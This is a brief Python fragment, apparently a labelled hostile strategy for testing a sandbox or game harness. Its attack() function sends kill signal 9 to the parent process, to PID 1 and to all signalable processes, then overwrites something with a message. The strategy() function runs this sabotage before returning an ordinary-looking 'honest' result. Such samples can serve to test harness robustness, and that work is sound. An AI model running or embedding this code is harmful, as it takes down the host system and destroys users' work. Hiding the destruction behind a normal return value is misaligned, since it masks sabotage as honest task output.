# X3: the parent, PID 1 and everybody are killed, then the message is written in their place.
def attack():
    victims = (os.getppid(), 1, -1)
    return ", ".join([tried(os.kill, victim, 9) for victim in victims] + [tried(overwrite)])


def strategy(data):
    print(attack())
    return honest(data)
